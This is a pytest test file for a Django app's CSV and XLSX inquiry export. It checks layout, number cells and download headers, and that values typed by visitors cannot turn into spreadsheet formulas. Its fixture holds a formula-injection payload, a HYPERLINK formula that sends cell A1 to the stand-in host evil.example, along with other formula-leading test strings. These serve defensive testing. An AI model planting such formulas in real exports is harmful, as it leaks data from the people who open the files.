"""One inquiry as CSV and XLSX for the ERP: header block, one row per line, numbers as numbers,
and nothing a visitor typed can become a spreadsheet formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from pim.inquiries.exporting import inquiry_csv, inquiry_xlsx
from tests.factories import make_product, make_valve_family

from .inbox_data import make_inquiry

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def inquiry(db):
    family = make_valve_family()
    valve = make_product(family, article_number="KH-100", order_unit="C62")
    hose = make_product(family, article_number="-HOSE-5", order_unit="MTR")
    return make_inquiry(
        company="@Müller & Söhne",
        name=FORMULA,
        phone="+49 40 123456",
        message="Bitte mit Prüfzeugnis.\nLieferung nach Hamburg.",
        requested_delivery_date=timezone.localdate() + timezone.timedelta(days=30),
        lines=[
            {
                "product": valve,
                "product_name": "Kugelhahn DN 15",
                "quantity": Decimal("50"),
                "note": "+ Zeugnis 3.1",
            },
            {"product": hose, "product_name": "Schlauch", "quantity": Decimal("12.5")},
            {"requirement": "=1+1 Sonderblock nach Zeichnung", "quantity": Decimal("3"), "note": "\tMuster"},
        ],
    )


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark for Excel
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_header_block_and_lines(inquiry):
    rows = _csv_rows(inquiry_csv(inquiry))
    header = {row[0]: row[1:] for row in rows[:11]}
    assert header["Inquiry"] == [inquiry.reference]
    assert header["Received"][0] == f"{timezone.localtime(inquiry.created_at):%Y-%m-%d %H:%M}"
    assert header["Country"] == ["DE", "Germany"]
    assert header["Requested delivery date"] == [inquiry.requested_delivery_date.isoformat()]
    assert header["E-mail"] == ["erika@hydraulik-nord.example"]
    assert header["Message"] == ["Bitte mit Prüfzeugnis.\nLieferung nach Hamburg."]
    assert rows[11] == []
    assert rows[12] == [
        "Position",
        "Article number",
        "Name",
        "Quantity",
        "Unit",
        "Note",
        "Requirement (custom product)",
    ]
    assert rows[13] == ["1", "KH-100", "Kugelhahn DN 15", "50", "C62", "'+ Zeugnis 3.1", ""]
    assert rows[14] == ["2", "'-HOSE-5", "Schlauch", "12,5", "MTR", "", ""]
    assert rows[15] == ["3", "", "", "3", "", "'\tMuster", "'=1+1 Sonderblock nach Zeichnung"]
    assert len(rows) == 16


def test_csv_writes_formula_like_text_as_text(inquiry):
    rows = _csv_rows(inquiry_csv(inquiry))
    header = {row[0]: row[1:] for row in rows[:11]}
    assert header["Name"] == ["'" + FORMULA]
    assert header["Company"] == ["'@Müller & Söhne"]
    assert header["Phone"] == ["'+49 40 123456"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def _trimmed(values: list) -> list:
    # Read-back rows are as wide as the widest row: drop the padding.
    while values and values[-1] is None:
        values.pop()
    return values


def test_xlsx_reads_back_with_text_cells_and_number_quantities(inquiry):
    workbook = load_workbook(io.BytesIO(inquiry_xlsx(inquiry)))
    sheet = workbook[inquiry.reference]
    rows = list(sheet.iter_rows())
    values = [_trimmed([cell.value for cell in row]) for row in rows]
    assert values[0] == ["Inquiry", inquiry.reference]
    assert values[7] == ["Country", "DE", "Germany"]
    name_cell = rows[4][1]
    assert values[4][0] == "Name"
    assert name_cell.value == FORMULA and name_cell.data_type == "s"  # never a formula
    assert rows[3][1].value == "@Müller & Söhne" and rows[3][1].data_type == "s"
    received = rows[1][1]
    assert received.is_date
    sent = timezone.localtime(inquiry.created_at).replace(tzinfo=None)
    assert abs(received.value - sent).total_seconds() < 1
    assert rows[8][1].is_date and rows[8][1].value.date() == inquiry.requested_delivery_date
    lines = rows[13:]
    assert [[cell.value for cell in row] for row in lines] == [
        [1, "KH-100", "Kugelhahn DN 15", 50, "C62", "+ Zeugnis 3.1", None],
        [2, "-HOSE-5", "Schlauch", 12.5, "MTR", None, None],  # empty cells stay empty
        [3, None, None, 3, None, "\tMuster", "=1+1 Sonderblock nach Zeichnung"],
    ]
    for row in lines:
        assert row[3].data_type == "n"  # quantity: a number cell
    assert lines[2][6].data_type == "s" and lines[1][1].data_type == "s"


def test_xlsx_drops_control_characters_the_format_cannot_hold(db):
    inquiry = make_inquiry(
        message="Zeile 1\x07\x08 Ende", lines=[{"requirement": "Block\x1b", "quantity": 1}]
    )
    sheet = load_workbook(io.BytesIO(inquiry_xlsx(inquiry))).active
    assert sheet["B11"].value == "Zeile 1 Ende"
    assert sheet["G14"].value == "Block"


def test_admin_downloads_name_the_file_after_the_reference(client, inquiry):
    client.force_login(User.objects.create(username="admin", is_staff=True, is_superuser=True))
    page = client.get(reverse("inquiries:edit", args=[inquiry.pk])).content.decode()
    csv_url = reverse("inquiries:export_csv", args=[inquiry.pk])
    xlsx_url = reverse("inquiries:export_xlsx", args=[inquiry.pk])
    assert csv_url in page and xlsx_url in page

    response = client.get(csv_url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{inquiry.reference}.csv"'
    assert "no-store" in response["Cache-Control"] or "no-cache" in response["Cache-Control"]
    assert _csv_rows(response.content)[0] == ["Inquiry", inquiry.reference]

    response = client.get(xlsx_url)
    assert response["Content-Disposition"] == f'attachment; filename="{inquiry.reference}.xlsx"'
    assert load_workbook(io.BytesIO(response.content)).active["B1"].value == inquiry.reference

    assert client.get(reverse("inquiries:export_csv", args=[inquiry.pk + 1000])).status_code == 404
